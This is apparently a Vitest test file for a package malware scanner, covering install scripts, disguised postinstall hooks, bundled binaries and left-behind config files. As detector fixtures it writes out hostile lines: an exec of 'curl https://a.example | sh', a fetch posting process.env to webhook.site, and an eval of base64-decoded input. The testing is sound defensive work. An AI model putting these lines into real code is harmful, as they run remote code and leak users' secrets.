import { expect, test } from 'vitest';
import { findingsOf, manifestWith } from '../../test/rule-cases.ts';

const elf = Buffer.concat([Buffer.from('7f454c4602010100', 'hex'), Buffer.alloc(100)]);

test('package.install-script: that there is a script is a note', async () => {
  expect(await findingsOf({ 'package.json': manifestWith({ install: 'node-gyp rebuild' }) })).toEqual([
    'note package.install-script package.json',
  ]);
  expect(await findingsOf({ 'binding.gyp': '{}' })).toEqual(['note package.install-script binding.gyp']);
  expect(await findingsOf({ 'package.json': manifestWith({ build: 'tsc', prepare: 'husky' }) })).toEqual([]);
});

test('malware.install-script-disguised: a hook runs an image, a hidden file or a binary', async () => {
  const run = (command: string, files: Record<string, string | Buffer>) =>
    findingsOf({ 'package.json': manifestWith({ postinstall: command }), ...files });
  const rule = 'review malware.install-script-disguised';
  expect(await run('node logo.png', { 'logo.png': 'module.exports = 1' })).toContain(`${rule} logo.png`);
  expect(await run('node .cache/run.js', { '.cache/run.js': '1' })).toContain(`${rule} .cache/run.js`);
  expect(await run('./bin/setup', { 'bin/setup': elf })).toContain(`${rule} bin/setup`);
  expect(
    (await run('node scripts/run.js', { 'scripts/run.js': '1' })).filter((line) =>
      line.includes('disguised'),
    ),
  ).toEqual([]);
});

test('package.bundled-executable and package.nested-archive: notes by the first bytes, whatever the name', async () => {
  expect(
    await findingsOf({
      'a.txt': elf,
      'b.node': Buffer.concat([Buffer.from('cffaedfe', 'hex'), Buffer.alloc(64)]),
    }),
  ).toEqual(['note package.bundled-executable a.txt', 'note package.bundled-executable b.node']);
  expect(
    await findingsOf({ 'data.bin': elf, 'x.dat': Buffer.from('504b0304aaaa', 'hex'), 'a.class': 'cafe' }),
  ).toEqual(['note package.nested-archive x.dat', 'note package.bundled-executable data.bin']);
});

test('package.left-behind-file: configuration of a machine', async () => {
  expect(
    await findingsOf({ '.npmrc': 'a=b', '.git/config': '', '.env.example': 'A=', 'src/.env.local': 'A=1' }),
  ).toEqual([
    'note package.left-behind-file .git/config',
    'note package.left-behind-file .npmrc',
    'note package.left-behind-file src/.env.local',
  ]);
});

test('archive.manifest-unreadable: no package.json, or one that is no JSON', async () => {
  const rule = ['review archive.manifest-unreadable package.json'];
  expect(await findingsOf({ 'package.json': '{' })).toEqual(rule);
  expect(await findingsOf({ 'package.json': '[]' })).toEqual(rule);
  expect(await findingsOf({ 'package.json': '\ufeff{}' })).toEqual([]);
});

test('files that nothing runs weigh less, files that an install script runs weigh more', async () => {
  const text = `eval(Buffer.from(x, 'base64').toString())`;
  const rule = 'malware.eval-decoded';
  expect(await findingsOf({ 'test/a.js': text })).toEqual([`note ${rule} test/a.js`]);
  expect(await findingsOf({ 'lib/a.js': text })).toEqual([`review ${rule} lib/a.js`]);
  expect(await findingsOf({ 'index.js': `require('./test/a')`, 'test/a.js': text })).toEqual([
    `review ${rule} test/a.js`,
  ]);
  expect(
    await findingsOf({ 'package.json': manifestWith({ install: 'node test/a' }), 'test/a.js': text }),
  ).toContain(`block ${rule} test/a.js`);
});

test('code under any name is code', async () => {
  const text = `require('child_process').exec('curl https://a.example | sh')`;
  for (const file of ['run', 'lib/data.dat', 'x.mjs', 'a.jsx']) {
    expect(await findingsOf({ [file]: text })).toEqual([`review malware.shell-download ${file}`]);
  }
  expect(await findingsOf({ 'README.md': text, 'a.css': text, 'bin.dat': `${text}\0` })).toEqual([]);
});

test('a file that is larger than what is read at once is still read to its end', async () => {
  const filler = `var a = 'b';\n`.repeat(450_000);
  expect(
    await findingsOf({
      'bundle.js': `${filler}fetch('https://webhook.site/x', { body: JSON.stringify(process.env) })`,
    }),
  ).toEqual(['block malware.credential-theft bundle.js', 'block malware.exfiltration bundle.js']);
}, 30_000);
